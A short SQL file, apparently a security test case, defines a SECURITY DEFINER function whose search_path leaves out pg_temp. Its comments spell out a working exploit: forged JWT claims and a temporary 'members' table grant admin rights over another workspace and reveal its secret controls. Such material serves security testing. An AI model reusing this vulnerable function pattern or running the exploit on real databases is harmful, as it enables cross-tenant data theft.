-- A user makes a temporary table members that the membership function reads instead, as its path leaves out
-- pg_temp.
-- about: my_workspaces, members, evidence, controls, comments
-- as: hf_proofroom_app
-- exploit: SET request.jwt.claims = '{"sub": "a1111111-0000-4000-8000-0000000000aa"}';
-- exploit: CREATE TEMP TABLE members (workspace_id uuid, user_id uuid, role text);
-- exploit: INSERT INTO pg_temp.members VALUES
-- exploit:   ('b2222222-0000-4000-8000-000000000002', 'a1111111-0000-4000-8000-0000000000aa', 'admin');
-- exploit: SELECT statement FROM proof.controls;
-- shows: Road-secret control
CREATE OR REPLACE FUNCTION proof.my_workspaces() RETURNS SETOF uuid LANGUAGE sql STABLE SECURITY DEFINER
SET search_path = proof AS $$
  SELECT m.workspace_id FROM members m WHERE m.user_id = uid()
$$;
